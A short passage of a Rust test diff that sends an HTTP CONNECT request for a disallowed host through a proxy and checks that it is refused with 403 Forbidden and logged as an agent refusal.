+    s.write_all(format!("CONNECT {other} HTTP/1.1\r\n\r\n").as_bytes())
+        .unwrap();
+    let mut refused = String::new();
+    s.read_to_string(&mut refused).unwrap();
+    assert!(
+        refused.starts_with("HTTP/1.1 403 Forbidden\r\n"),
+        "{refused}"
+    );
+
+    drop(proxy.stdin.take());
+    assert!(proxy.wait().unwrap().success());
+    assert_eq!(proxy_log(&log), [format!("3:agent refused {other}")]);
 }
